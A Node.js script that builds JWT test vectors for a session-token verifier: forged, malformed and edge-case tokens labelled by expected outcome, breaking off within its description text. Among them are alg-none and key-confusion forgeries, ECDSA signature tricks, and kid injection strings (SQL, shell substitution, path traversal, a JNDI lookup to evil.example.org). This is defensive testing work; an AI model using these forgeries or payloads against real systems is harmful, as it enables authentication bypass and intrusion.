// Writes jwt-attacks.json beside this file: run it by hand after adding a row (`node test/vectors/make-jwt-attacks.js`).
// The signing key of the file is kept, so that other tools may pin it; it is public and good for nothing else.
import { createHash, createHmac, createPrivateKey, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';

const FILE = new URL('./jwt-attacks.json', import.meta.url);
const NOW = 1_760_000_000;
const ISSUER = 'https://auth.example.org';
const ORG = '3f2504e0-4f89-41d3-9a0c-0305e82c3301';
const OTHER_ORG = '9b2504e0-4f89-41d3-9a0c-0305e82c3302';
const CURVE_ORDER = 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551';

const privateJwk = existsSync(FILE) ? JSON.parse(readFileSync(FILE, 'utf8')).privateJwk : newPrivateJwk();
const { d: _, ...publicJwk } = privateJwk;
const ours = createPrivateKey({ key: privateJwk, format: 'jwk' });
const ourPublic = createPublicKey(ours);
const foreign = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;

const header = { alg: 'ES256', typ: 'session+jwt', kid: privateJwk.kid };
const payload = {
  iss: ISSUER,
  aud: ORG,
  sub: '0199c8a4-2b00-7abc-8def-0123456789ab',
  sid: '0199c8a4-2b01-7abc-8def-0123456789ab',
  jti: '5d3c1a0e-8f7b-4c6d-9e2f-1a2b3c4d5e6f',
  iat: NOW - 60,
  exp: NOW + 3600,
  email: 'ann@example.org',
  email_verified: false,
  org_id: ORG,
  api_key: 'af_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
};

/** @type {{ name: string, row: string, token: string, expected: string, also?: string }[]} */
const rows = [];

function newPrivateJwk() {
  const jwk = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ format: 'jwk' });
  const thumbprint = JSON.stringify({ crv: jwk.crv, kty: jwk.kty, x: jwk.x, y: jwk.y });
  return { ...jwk, kid: createHash('sha256').update(thumbprint).digest('base64url'), use: 'sig', alg: 'ES256' };
}

/** @param {string | Buffer} bytes */
function encode(bytes) {
  return Buffer.from(bytes).toString('base64url');
}

/** @param {unknown} head @param {unknown} body; text stands for itself, anything else for its JSON */
function unsigned(head, body) {
  return [head, body].map((part) => encode(typeof part === 'string' ? part : JSON.stringify(part))).join('.');
}

/** @param {string} input @param {import('node:crypto').KeyObject} key */
function es256(input, key = ours) {
  return sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
}

/** @param {unknown} head @param {unknown} body @param {import('node:crypto').KeyObject} [key] */
function token(head, body, key = ours) {
  const input = unsigned(head, body);
  return `${input}.${encode(es256(input, key))}`;
}

/** @param {string} row @param {string} name @param {string} value @param {string} [expected] @param {string} [also] */
function add(row, name, value, expected = 'refused', also) {
  rows.push({ name, row, token: value, expected, ...(also === undefined ? {} : { also }) });
}

/** @param {string} hex */
function scalar(hex) {
  return Buffer.from(hex.padStart(64, '0'), 'hex');
}

const good = token(header, payload);
const [goodHeader = '', goodPayload = '', goodSignature = ''] = good.split('.');
const goodInput = `${goodHeader}.${goodPayload}`;
const { api_key: _key, ...withoutKey } = payload;
const expired = { ...payload, iat: NOW - 7200, exp: NOW - 3600 };

// Controls.
add('control', 'as the service makes it', good, 'accepted');
add('control', 'without api_key', token(header, withoutKey), 'accepted');
add(
  'control',
  'api_key is the id of the key',
  token(header, { ...payload, api_key: '0199c8a4-2b02-7abc-8def-0123456789ab' }),
  'accepted',
);
add(
  'control',
  'header members in another order',
  token({ kid: header.kid, typ: header.typ, alg: header.alg }, payload),
  'accepted',
);
add('control', 'a claim that is not named', token(header, { ...payload, reserved: { later: true } }), 'accepted');
add(
  'control',
  'an e-mail beyond ASCII',
  token(header, { ...payload, email: 'jörg@xn--bcher-kva.example' }),
  'accepted',
);
add('control', 'expires in the next second', token(header, { ...payload, exp: NOW + 1 }), 'accepted');
add('control', 'issued now', token(header, { ...payload, iat: NOW }), 'accepted');
add('control', 'issued by a clock that is 60 s ahead', token(header, { ...payload, iat: NOW + 60 }), 'accepted');
add('control', 'expired an hour ago', token(header, expired), 'expired');
add('control', 'expires at this second', token(header, { ...payload, exp: NOW }), 'expired');
add(
  'T2',
  'of another organization throughout',
  token(header, { ...payload, aud: OTHER_ORG, org_id: OTHER_ORG }),
  'other_organization',
);

// T1: only our algorithm, only our keys.
for (const alg of ['none', 'None', 'nOnE', 'NONE']) {
  const input = unsigned({ ...header, alg }, payload);
  add('T1', `alg ${alg}, no signature`, `${input}.`);
  add('T1', `alg ${alg}, an ES256 signature`, `${input}.${encode(es256(input))}`);
}
const spki = String(ourPublic.export({ format: 'pem', type: 'spki' }));
const hmacKeys = {
  'the public key in PEM': spki,
  'the public key in PEM without its last newline': spki.trimEnd(),
  'the public key in DER': ourPublic.export({ format: 'der', type: 'spki' }),
  'the public JWK': JSON.stringify(publicJwk),
  'the x coordinate': Buffer.from(String(publicJwk.x), 'base64url'),
  'the kid': header.kid,
  nothing: '',
};
for (const [name, key] of Object.entries(hmacKeys)) {
  const input = unsigned({ ...header, alg: 'HS256' }, payload);
  add('T1', `HS256 keyed with ${name}`, `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`);
}
for (const bits of ['384', '512']) {
  const input = unsigned({ ...header, alg: `HS${bits}` }, payload);
  add(
    'T1',
    `HS${bits} keyed with the public key`,
    `${input}.${createHmac(`sha${bits}`, spki).update(input).digest('base64url')}`,
  );
}
for (const alg of ['RS256', 'PS256']) {
  const input = unsigned({ ...header, alg }, payload);
  const padding = alg === 'PS256' ? { padding: 6, saltLength: 32 } : {};
  add(
    'T1',
    `${alg} by a foreign key`,
    `${input}.${encode(sign('sha256', Buffer.from(input), { key: rsa, ...padding }))}`,
  );
}
for (const [alg, namedCurve, hash] of /** @type {const} */ ([
  ['ES384', 'P-384', 'sha384'],
  ['ES512', 'P-521', 'sha512'],
  ['ES256K', 'secp256k1', 'sha256'],
])) {
  const input = unsigned({ ...header, alg }, payload);
  const key = generateKeyPairSync('ec', { namedCurve }).privateKey;
  add(
    'T1',
    `${alg} by a foreign key`,
    `${input}.${encode(sign(hash, Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' }))}`,
  );
}
{
  const input = unsigned({ ...header, alg: 'EdDSA' }, payload);
  add(
    'T1',
    'EdDSA by a foreign key',
    `${input}.${encode(sign(null, Buffer.from(input), generateKeyPairSync('ed25519').privateKey))}`,
  );
}
for (const alg of ['HS256', 'RS256', 'ES384', 'es256', 'ES256 ', '', null, 256, ['ES256'], undefined]) {
  add('T1', `alg ${JSON.stringify(alg) ?? 'absent'} over an ES256 signature`, token({ ...header, alg }, payload));
}
add('T1', 'ES256 by a foreign key under our kid', token(header, payload, foreign.privateKey));
const signatures = {
  empty: Buffer.alloc(0),
  'all zero': Buffer.alloc(64),
  'all ones': Buffer.alloc(64, 0xff),
  'r = 0': Buffer.concat([scalar('0'), scalar('1')]),
  's = 0': Buffer.concat([scalar('1'), scalar('0')]),
  'r = s = 1': Buffer.concat([scalar('1'), scalar('1')]),
  'r = s = n': Buffer.concat([scalar(CURVE_ORDER), scalar(CURVE_ORDER)]),
  'r and s swapped': Buffer.concat([
    Buffer.from(goodSignature, 'base64url').subarray(32),
    Buffer.from(goodSignature, 'base64url').subarray(0, 32),
  ]),
  'in DER': sign('sha256', Buffer.from(goodInput), ours),
  'cut to 63 bytes': Buffer.from(goodSignature, 'base64url').subarray(0, 63),
  'with a byte more': Buffer.concat([Buffer.from(goodSignature, 'base64url'), Buffer.alloc(1)]),
  'over the payload alone': es256(goodPayload),
  'over the decoded parts': es256(`${JSON.stringify(header)}.${JSON.stringify(payload)}`),
  'of another token': es256(unsigned(header, { ...payload, sub: payload.sid })),
};
for (const [name, bytes] of Object.entries(signatures)) {
  add('T1', `signature: ${name}`, `${goodInput}.${encode(bytes)}`);
}
for (const at of [0, 31, 32, 63]) {
  const bytes = Buffer.from(goodSignature, 'base64url');
  bytes.writeUInt8(bytes.readUInt8(at) ^ 1, at);
  add('T1', `signature: one bit of byte ${at} changed`, `${goodInput}.${encode(bytes)}`);
}
const changes = {
  sub: payload.sid,
  sid: payload.sub,
  email: 'eve@example.org',
  exp: NOW + 9e6,
  org_id: OTHER_ORG,
  email_verified: true,
};
for (const [claim, value] of Object.entries(changes)) {
  add(
    'T1',
    `${claim} changed after signing`,
    `${goodHeader}.${encode(JSON.stringify({ ...payload, [claim]: value }))}.${goodSignature}`,
  );
}

// T2: types are not interchangeable.
for (const typ of [
  'JWT',
  'jwt',
  'at+jwt',
  'SESSION+JWT',
  'application/session+jwt',
  'session+jwt ',
  '',
  null,
  ['session+jwt'],
  undefined,
]) {
  add('T2', `typ ${JSON.stringify(typ) ?? 'absent'}`, token({ ...header, typ }, payload));
}
add('T2', 'a nonce of the service', encode(Buffer.concat([Buffer.of(1, 0), Buffer.alloc(54, 7)])));
add('T2', 'an API key of the service', payload.api_key);
add('T2', 'another issuer', token(header, { ...payload, iss: 'https://evil.example.org' }));
add('T2', 'an issuer with a slash more', token(header, { ...payload, iss: `${ISSUER}/` }));
add('T2', 'aud of another organization than org_id', token(header, { ...payload, aud: OTHER_ORG }));
add('T2', 'org_id of another organization than aud', token(header, { ...payload, org_id: OTHER_ORG }));
add('T2', 'aud for two organizations', token(header, { ...payload, aud: [ORG, OTHER_ORG] }));

// Known devices: the version of the password is a whole number from 1 on, or is not there.
add('control', 'with a credential_version', token(header, { ...payload, credential_version: 3 }), 'accepted');
for (const credential_version of [0, -1, 1.5, 2 ** 53, '1', true, null, [1]]) {
  const name = `credential_version is ${JSON.stringify(credential_version)}`;
  add('T3', name, token(header, { ...payload, credential_version }));
}

// T3: required claims are required, and typed.
for (const claim of /** @type {const} */ (['iss', 'aud', 'sub', 'sid', 'jti', 'org_id', 'email'])) {
  const wrong = {
    absent: undefined,
    null: null,
    'a number': 1,
    'an array': [payload[claim]],
    'an object': {},
    empty: '',
  };
  for (const [name, value] of Object.entries(wrong)) {
    add('T3', `${claim} is ${name}`, token(header, { ...payload, [claim]: value }));
  }
}
for (const claim of /** @type {const} */ (['sub', 'sid', 'jti'])) {
  const wrong = [
    '1',
    payload[claim].toUpperCase(),
    `{${payload[claim]}}`,
    `${payload[claim]}' OR 1=1`,
    payload[claim].replaceAll('-', ''),
  ];
  for (const value of wrong) {
    add('T3', `${claim} is ${value}`, token(header, { ...payload, [claim]: value }));
  }
}
for (const claim of /** @type {const} */ (['iat', 'exp'])) {
  const wrong = {
    absent: undefined,
    null: null,
    'a string': String(payload[claim]),
    'a float': payload[claim] + 0.5,
    negative: -1,
    '2^53': 2 ** 53,
    true: true,
    'an array': [payload[claim]],
  };
  for (const [name, value] of Object.entries(wrong)) {
    add('T3', `${claim} is ${name}`, token(header, { ...payload, [claim]: value }));
  }
}
add('T3', 'exp is 1e400', token(header, JSON.stringify(payload).replace(String(payload.exp), '1e400')));
add('T3', 'issued 61 s in the future', token(header, { ...payload, iat: NOW + 61 }));
add('T3', 'issued a year in the future', token(header, { ...payload, iat: NOW + 31_536_000, exp: NOW + 63_072_000 }));
add('T3', 'exp equals iat', token(header, { ...payload, exp: payload.iat }));
add('T3', 'exp before iat', token(header, { ...payload, iat: NOW, exp: NOW - 1 }));
add('T3', 'not valid before tomorrow', token(header, { ...payload, nbf: NOW + 86_400 }));
for (const body of ['', 'null', '[]', '"text"', '1', '{', JSON.stringify([payload]), '{}']) {
  add('T3', `the payload is ${body.slice(0, 20) || 'empty'}`, token(header, body));
}

// T4: headers carry no power.
const foreignJwk = foreign.publicKey.export({ format: 'jwk' });
const kids = [
  "' OR '1'='1",
  "x' UNION SELECT 'key",
  '../../../../dev/null',
  '/etc/passwd',
  'https://evil.example.org/jwks.json',
  '__proto__',
  'constructor',
  'unknown',
  ` ${header.kid}`,
  '',
  null,
  1,
  [header.kid],
  undefined,
];
for (const kid of kids) {
  add('T4', `kid ${JSON.stringify(kid) ?? 'absent'}, by our key`, token({ ...header, kid }, payload));
  add(
    'T4',
    `kid ${JSON.stringify(kid) ?? 'absent'}, by a foreign key`,
    token({ ...header, kid }, payload, foreign.privateKey),
  );
}
add('T4', 'kid of 10 KiB', token({ ...header, kid: 'k'.repeat(10_240) }, payload));
add('T4', 'kid of 4 KiB', token({ ...header, kid: 'k'.repeat(4096) }, payload));
const extra = {
  jku: 'https://evil.example.org/jwks.json',
  x5u: 'https://evil.example.org/cert.pem',
  x5c: ['MIIB'],
  jwk: foreignJwk,
  crit: ['x'],
  b64: true,
  zip: 'DEF',
  cty: 'JWT',
  enc: 'A256GCM',
  x: 1,
  nonce: 'n',
  iss: ISSUER,
};
for (const [member, value] of Object.entries(extra)) {
  add('T4', `header member ${member}, by our key`, token({ ...header, [member]: value }, payload));
}
for (const member of /** @type {const} */ (['jku', 'x5u', 'x5c', 'jwk'])) {
  add(
    'T4',
    `header member ${member}, by the foreign key that it offers`,
    token({ ...header, [member]: extra[member] }, payload, foreign.privateKey),
  );
}
add('T4', 'crit with an unknown extension that is there', token({ ...header, crit: ['x'], x: 1 }, payload));
add('T4', 'crit empty', token({ ...header, crit: [] }, payload));
{
  const input = `${encode(JSON.stringify({ ...header, crit: ['b64'], b64: false }))}.${goodPayload}`;
  add('T4', 'b64 false with crit', `${input}.${encode(es256(input))}`);
}
for (const head of ['', 'null', '[]', '"ES256"', '{', JSON.stringify([header])]) {
  add('T4', `the header is ${head.slice(0, 20) || 'empty'}`, token(head, payload));
}

// T5: garbage is cheap.
const lastCharacter = goodSignature.at(-1) ?? '';
const twin = 'AQgw'.includes(lastCharacter) ? { A: 'B', Q: 'R', g: 'h', w: 'x' }[lastCharacter] : lastCharacter;
const garbage = {
  'signed well, but over 8 KiB': token(header, { ...payload, reserved: 'x'.repeat(8192) }),
  'the last character of the signature spelled otherwise': `${good.slice(0, -1)}${twin}`,
  'a final newline': `${good}\n`,
  'a space in front': ` ${good}`,
  'a space within': good.replace('.', '. '),
  'Bearer in front': `Bearer ${good}`,
  'in quotes': `"${good}"`,
  'padding after the signature': `${good}==`,
  'padding after each part': good
    .split('.')
    .map((part) => part + '='.repeat((4 - (part.length % 4)) % 4))
    .join('.'),
  'the standard alphabet': `${goodInput}.${Buffer.from(goodSignature, 'base64url').toString('base64')}`,
  'an empty text': '',
  'one dot': '.',
  'two dots': '..',
  'three dots': '...',
  'without the signature part': goodInput,
  'a fourth part': `${good}.${goodSignature}`,
  'five parts, as a JWE has': `${goodHeader}.${goodSignature}.${goodSignature}.${goodPayload}.${goodSignature}`,
  'without a header': `.${goodPayload}.${goodSignature}`,
  'without a payload': `${goodHeader}..${goodSignature}`,
  'JSON serialization, flattened': JSON.stringify({
    protected: goodHeader,
    payload: goodPayload,
    signature: goodSignature,
  }),
  'JSON serialization, general': JSON.stringify({
    payload: goodPayload,
    signatures: [{ protected: goodHeader, signature: goodSignature }],
  }),
  'NUL after it': `${good}\0`,
  'a letter of another script': good.replace('e', 'е'),
  'percent escapes': good.replaceAll('.', '%2E'),
  '64 KiB of A': 'A'.repeat(65_536),
  '10,000 dots': '.'.repeat(10_000),
};
for (const [name, value] of Object.entries(garbage)) {
  add('T5', name, value);
}

// ECDSA itself (CVE-2022-21449 and its like), curves and hashes.
{
  const n = BigInt(`0x${CURVE_ORDER}`);
  const goodBytes = Buffer.from(goodSignature, 'base64url');
  const [goodR, goodS] = [goodBytes.subarray(0, 32), goodBytes.subarray(32)];
  const mirrored = scalar((n - BigInt(`0x${goodS.toString('hex')}`)).toString(16));
  add(
    'control',
    'signature: n - s for s, which ECDSA accepts as well (RFC 7518, 3.4, asks for no low s)',
    `${goodInput}.${encode(Buffer.concat([goodR, mirrored]))}`,
    'accepted',
    'refused',
  );
  const digest = createHash('sha256').update(goodInput).digest();
  const p384 = generateKeyPairSync('ec', { namedCurve: 'P-384' }).privateKey;
  const k256 = generateKeyPairSync('ec', { namedCurve: 'secp256k1' }).privateKey;
  const inPlace = { dsaEncoding: /** @type {const} */ ('ieee-p1363') };
  const ecdsa = {
    'r = 0, s good': Buffer.concat([scalar('0'), goodS]),
    'r good, s = 0': Buffer.concat([goodR, scalar('0')]),
    'r = n, s = 1': Buffer.concat([scalar(CURVE_ORDER), scalar('1')]),
    'r good, s = n': Buffer.concat([goodR, scalar(CURVE_ORDER)]),
    'r = n, s good': Buffer.concat([scalar(CURVE_ORDER), goodS]),
    'r = n - 1, s = n - 1': Buffer.concat([scalar((n - 1n).toString(16)), scalar((n - 1n).toString(16))]),
    'r = s': Buffer.concat([goodR, goodR]),
    'r = the x coordinate of the key, s = r': Buffer.concat(Array(2).fill(Buffer.from(publicJwk.x, 'base64url'))),
    'each half in reverse order of bytes': Buffer.concat([Buffer.from(goodR).reverse(), Buffer.from(goodS).reverse()]),
    twice: Buffer.concat([goodBytes, goodBytes]),
    'with a byte of zero before each half': Buffer.concat([Buffer.alloc(1), goodR, Buffer.alloc(1), goodS]),
    'with its recovery byte in front': Buffer.concat([Buffer.of(27), goodBytes]),
    'in DER, padded to 72 bytes': Buffer.concat([
      sign('sha256', Buffer.from(goodInput), ours),
      Buffer.alloc(8),
    ]).subarray(0, 72),
    'in hexadecimal digits': Buffer.from(goodBytes.toString('hex')),
    'over SHA-384': sign('sha384', Buffer.from(goodInput), { key: ours, ...inPlace }),
    'over SHA-512': sign('sha512', Buffer.from(goodInput), { key: ours, ...inPlace }),
    'over SHA-1': sign('sha1', Buffer.from(goodInput), { key: ours, ...inPlace }),
    'over the digest as if it were the message': es256(/** @type {any} */ (digest)),
    'over the header alone': es256(goodHeader),
    'over the input and a final dot': es256(`${goodInput}.`),
    'of P-384 under our kid': sign('sha256', Buffer.from(goodInput), { key: p384, ...inPlace }),
    'of secp256k1 under our kid': sign('sha256', Buffer.from(goodInput), { key: k256, ...inPlace }),
    'the SHA-256 of the input, twice': Buffer.concat([digest, digest]),
  };
  for (const [name, bytes] of Object.entries(ecdsa)) {
    add('T1', `ECDSA: ${name}`, `${goodInput}.${encode(bytes)}`);
  }
  const point = Buffer.concat([
    Buffer.of(4),
    ...[publicJwk.x, publicJwk.y].map((text) => Buffer.from(text, 'base64url')),
  ]);
  const keys = {
    'the uncompressed point': point,
    'the compressed point': Buffer.concat([Buffer.of(2 + ((point.at(-1) ?? 0) % 2)), point.subarray(1, 33)]),
    'the y coordinate': Buffer.from(publicJwk.y, 'base64url'),
    'the JWKS document': JSON.stringify({ keys: [publicJwk] }),
    'the public key in PEM with CRLF': spki.replaceAll('\n', '\r\n'),
    'one byte of zero': Buffer.alloc(1),
    'the issuer': ISSUER,
    secret: 'secret',
  };
  for (const [name, key] of Object.entries(keys)) {
    const input = unsigned({ ...header, alg: 'HS256' }, payload);
    add(
      'T1',
      `HS256 with ${name} for its key`,
      `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`,
    );
  }
  for (const alg of [
    'Es256',
    'ES256\0',
    'ES256\n',
    ' ES256',
    'ECDSA',
    'ES256K',
    'ESB256',
    'SHA256withECDSA',
    'dir',
    true,
    {},
  ]) {
    add('T1', `alg is ${JSON.stringify(alg)}, signed as ES256`, token({ ...header, alg }, payload));
  }
  for (const alg of ['RSA-OAEP', 'ECDH-ES', 'A128KW', 'PBES2-HS256+A128KW']) {
    const head = { ...header, alg, enc: 'A128GCM', p2c: 2_147_483_647, p2s: 'AAAA' };
    add('T1', `a JWE of alg ${alg}, as costly as its header wants`, `${encode(JSON.stringify(head))}.AA.AA.AA.AA`);
  }
}

// One token, two readers: members there twice, escapes, other spellings of the same JSON (RFC 7515, 4 and 10.12).
{
  const members = (/** @type {unknown} */ value) => JSON.stringify(value).slice(1, -1);
  const head = members(header);
  const body = members(payload);
  const kid = JSON.stringify(header.kid);
  /** Another spelling of what is ours: a verifier that takes the last of two members may take it. */
  const spelled = {
    'alg none, then ours': token(`{"alg":"none",${head}}`, payload),
    'an unknown kid, then ours': token(`{"kid":"unknown",${head}}`, payload),
    'typ JWT, then ours': token(`{"typ":"JWT",${head}}`, payload),
    'kid twice, the same': token(`{${head},"kid":${kid}}`, payload),
    'an older exp, then ours': token(header, `{"exp":1,${body}}`),
    'another sub, then ours': token(header, `{"sub":"${payload.sid}",${body}}`),
    'another org_id and aud, then ours': token(header, `{"org_id":"${OTHER_ORG}","aud":"${OTHER_ORG}",${body}}`),
    'alg by an escape': token(`{"\\u0061lg"${head.slice(5)}}`, payload),
    'its value by an escape': token(`{${head.replace('ES256', '\\u0045S256')}}`, payload),
    'exp by an escape': token(header, `{${body.replace('"exp"', '"\\u0065xp"')}}`),
    'a slash by an escape': token(header, `{${body.replaceAll('/', '\\/')}}`),
    'blanks in the header': token(JSON.stringify(header, null, 1), payload),
    'blanks in the payload': token(header, JSON.stringify(payload, null, 1)),
    'a line break after the header': token(`{${head}}\n`, payload),
    'exp with a fraction of zero': token(header, `{${body.replace(String(payload.exp), `${payload.exp}.0`)}}`),
    'exp with an exponent': token(header, `{${body.replace(String(payload.exp), `${payload.exp}e0`)}}`),
    'a byte that is no UTF-8 in a claim that is not named': (() => {
      const bytes = Buffer.from(JSON.stringify({ ...payload, reserved: '?' }));
      bytes[bytes.lastIndexOf('?')] = 0xff;
      const input = `${goodHeader}.${encode(bytes)}`;
      return `${input}.${encode(es256(input))}`;
    })(),
  };
  for (const [name, value] of Object.entries(spelled)) {
    add('T4', `spelled otherwise: ${name}`, value, 'refused', 'accepted');
  }
  /** The last member is the forged one, or the text is no JSON. */
  const never = {
    'alg ours, then none': token(`{${head},"alg":"none"}`, payload),
    'kid ours, then an unknown one': token(`{${head},"kid":"unknown"}`, payload),
    'typ ours, then JWT': token(`{${head},"typ":"JWT"}`, payload),
    'org_id ours, then another': token(header, `{${body},"org_id":"${OTHER_ORG}"}`),
    'iss ours, then another': token(header, `{${body},"iss":"https://evil.example.org"}`),
    'exp ours, then a text': token(header, `{${body},"exp":"never"}`),
    'the header under __proto__': token(`{"__proto__":{${head}}}`, payload),
    'the payload under __proto__': token(header, `{"__proto__":{${body}}}`),
    'a byte order mark before the header': token(`\ufeff{${head}}`, payload),
    'a byte order mark before the payload': token(header, `\ufeff{${body}}`),
    'a comma after the last member': token(header, `{${body},}`),
    'a comment': token(header, `{${body}/* */}`),
    'single quotes': token(header, `{${body.replaceAll('"', "'")}}`),
    'members without quotes': token(header, `{${body.replace('"exp"', 'exp')}}`),
    'something after the payload': token(header, `{${body}}{}`),
    'something after the header': token(`{${head}}x`, payload),
    'NUL after the payload': token(header, `{${body}}\0`),
    'the payload in UTF-16': (() => {
      const input = `${goodHeader}.${encode(Buffer.from(JSON.stringify(payload), 'utf16le'))}`;
      return `${input}.${encode(es256(input))}`;
    })(),
    'members in capital letters': token({ ALG: header.alg, TYP: header.typ, KID: header.kid }, payload),
    'claims in capital letters': token(
      header,
      Object.fromEntries(Object.entries(payload).map(([name, value]) => [name.toUpperCase(), value])),
    ),
  };
  for (const [name, value] of Object.entries(never)) {
    add('T4', `read otherwise: ${name}`, value);
  }
  for (const literal of [
    'NaN',
    'Infinity',
    '-Infinity',
    '0x68E8F510',
    `0${payload.exp}`,
    `+${payload.exp}`,
    '-0',
    '9'.repeat(400),
  ]) {
    add(
      'T3',
      `exp is the literal ${literal.slice(0, 20)}`,
      token(header, `{${body.replace(String(payload.exp), literal)}}`),
    );
  }
  for (const literal of ['NaN', '-Infinity', '-1e400', `${payload.iat}.25`]) {
    add('T3', `iat is the literal ${literal}`, token(header, `{${body.replace(String(payload.iat), literal)}}`));
  }
}

// The claims that the blocks above leave out, and names of the issuer that only look alike.
for (const value of [undefined, null, 0, 1, '', 'true', 'false', [true], {}]) {
  add(
    'T3',
    `email_verified is ${JSON.stringify(value) ?? 'absent'}`,
    token(header, { ...payload, email_verified: value }),
  );
}
for (const value of [null, 0, true, [payload.api_key], {}]) {
  add('T3', `api_key is ${JSON.stringify(value).slice(0, 20)}`, token(header, { ...payload, api_key: value }));
}
for (const iss of [
  ISSUER.toUpperCase(),
  `${ISSUER}:443`,
  `${ISSUER}.`,
  `${ISSUER}\0`,
  ` ${ISSUER}`,
  `${ISSUER}@evil.example.org`,
  ISSUER.replace('https', 'http'),
  ISSUER.replace('auth', 'аuth'),
  [ISSUER, 'https://evil.example.org'],
]) {
  add('T2', `iss is ${JSON.stringify(iss)}`, token(header, { ...payload, iss }));
}
for (const aud of [[], [[ORG]], ORG.toUpperCase(), `${ORG} `, '*', { [ORG]: true }]) {
  add('T2', `aud is ${JSON.stringify(aud)}`, token(header, { ...payload, aud }));
}
add('T3', 'nbf in the past, which we never write', token(header, { ...payload, nbf: NOW - 60 }), 'refused', 'accepted');
add('T3', 'nbf is a text', token(header, { ...payload, nbf: 'now' }));
add('T3', 'the payload is a JWT of ours', token({ ...header }, good));
add(
  'T3',
  'a claim nested 500 deep',
  token(header, `{${JSON.stringify(payload).slice(1, -1)},"x":${'['.repeat(500)}${']'.repeat(500)}}`),
  'accepted',
  'refused',
);

// kid and headers again: what injections look like, and every way to bring a key along.
for (const kid of [
  header.kid.slice(0, -1),
  header.kid.toLowerCase(),
  `${header.kid}=`,
  `${header.kid}\0`,
  `${header.kid}\r\nx: y`,
  `../${header.kid}`,
  `${header.kid}#`,
  `${header.kid}?`,
  '%2e%2e%2fetc%2fpasswd',
  'key.pem|id',
  '$(id)',
  '`id`',
  ';sleep 10',
  '*)(kid=*',
  '{{7*7}}',
  '\u0024{jndi:ldap://evil.example.org/a}',
  'file:///dev/null',
  '\\\\evil.example.org\\share',
  'toString',
  'hasOwnProperty',
  '0',
  '-1',
  {},
  true,
]) {
  add('T4', `kid is ${JSON.stringify(kid)}, signed by our key`, token({ ...header, kid }, payload));
  add(
    'T4',
    `kid is ${JSON.stringify(kid)}, signed by a foreign key`,
    token({ ...header, kid }, payload, foreign.privateKey),
  );
}
{
  const k = encode('k'.repeat(32));
  const input = unsigned({ ...header, alg: 'HS256', jwk: { kty: 'oct', k } }, payload);
  add(
    'T4',
    'HS256 by the symmetric key that its header brings',
    `${input}.${createHmac('sha256', 'k'.repeat(32)).update(input).digest('base64url')}`,
  );
  const members = {
    x5t: encode('x'.repeat(20)),
    'x5t#S256': encode('x'.repeat(32)),
    jwks: { keys: [foreignJwk] },
    key: spki,
    epk: foreignJwk,
    apu: 'AA',
    url: 'https://evil.example.org/',
    ppt: 'shaken',
    svt: [good],
    exp: NOW + 9e6,
    sub: payload.sub,
    jti: payload.jti,
  };
  for (const [member, value] of Object.entries(members)) {
    add('T4', `header brings ${member}`, token({ ...header, [member]: value }, payload, foreign.privateKey));
    add('T4', `header brings ${member}, signed by our key`, token({ ...header, [member]: value }, payload));
  }
  for (const crit of [null, 'b64', {}, [1], ['alg'], ['exp'], ['b64'], ['crit'], ['x', 'x']]) {
    add('T4', `crit is ${JSON.stringify(crit)}`, token({ ...header, crit }, payload));
  }
  add('T4', 'b64 false without crit', token({ ...header, b64: false }, payload));
  const bare = `${encode(JSON.stringify({ ...header, b64: false, crit: ['b64'] }))}.${JSON.stringify(payload)}`;
  add('T4', 'b64 false, its payload in clear (RFC 7797)', `${bare}.${encode(es256(bare))}`);
}

// Base64url in other spellings, and what surrounds a token.
{
  const [paddedHeader, paddedPayload] = [JSON.stringify(header), JSON.stringify({ ...payload, reserved: 'xx' })].map(
    (text) => {
      // A last character whose unused bits are not zero: the text that it decodes to is the same.
      const blank =
        [text, `${text.slice(0, -1)} }`, `${text.slice(0, -1)}  }`].find((each) => Buffer.byteLength(each) % 3 === 1) ??
        text;
      const code = encode(blank);
      const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
      return `${code.slice(0, -1)}${alphabet[alphabet.indexOf(code.at(-1) ?? '') + 1]}`;
    },
  );
  for (const [name, input] of Object.entries({
    header: `${paddedHeader}.${goodPayload}`,
    payload: `${goodHeader}.${paddedPayload}`,
  })) {
    add(
      'T4',
      `bits of the last character of the ${name} that must be zero`,
      `${input}.${encode(es256(input))}`,
      'refused',
      'accepted',
    );
  }
  const oneMore = `${goodHeader}A.${goodPayload}`;
  add('T4', 'a header of an impossible length', `${oneMore}.${encode(es256(oneMore))}`, 'refused', 'accepted');
}
const surrounded = {
  'a tab in front': `\t${good}`,
  'CRLF after it': `${good}\r\n`,
  'a no-break space after it': `${good}\u00a0`,
  'a byte order mark in front': `\ufeff${good}`,
  'a zero-width space within': good.replace('.', '.\u200b'),
  'a line break within the payload': good.replace(goodPayload, `${goodPayload.slice(0, 40)}\n${goodPayload.slice(40)}`),
  'two tokens with a comma': `${good},${good}`,
  'two tokens with a space': `${good} ${good}`,
  'as a cookie': `token=${good}`,
  'as a query': `${good}&x=1`,
  'in angle brackets': `<${good}>`,
  'in base64url once more': encode(good),
  'in capital letters': good.toUpperCase(),
  'its first half': good.slice(0, good.length / 2),
  'without its last character': good.slice(0, -1),
  'parts in reverse order': [goodSignature, goodPayload, goodHeader].join('.'),
  'header and payload swapped': [goodPayload, goodHeader, goodSignature].join('.'),
  'full stops of another script': good.replaceAll('.', '\u3002'),
  'with a fragment': `${good}#x`,
  'with dots at both ends': `.${good}.`,
  'with a tilde, as an SD-JWT ends': `${good}~`,
  'of 8 KiB and one letter': `${'A'.repeat(8_193 - 88)}.A.${'A'.repeat(86)}`,
};
for (const [name, value] of Object.entries(surrounded)) {
  add('T5', `surrounded: ${name}`, value);
}

const about = [
  'Session tokens that a verifier must judge as `expected` says, with the public keys of `jwks`, at the instant `now`',
  '(seconds since 1970), for the issuer `issuer` and the organization `audience`:',
  '`accepted`; `expired`: genuine, but too old; `other_organization`: genuine, but for another organization than',
  '`audience`; `refused`: anything else. `also`, where it is there, is what a verifier may say instead: the standards',
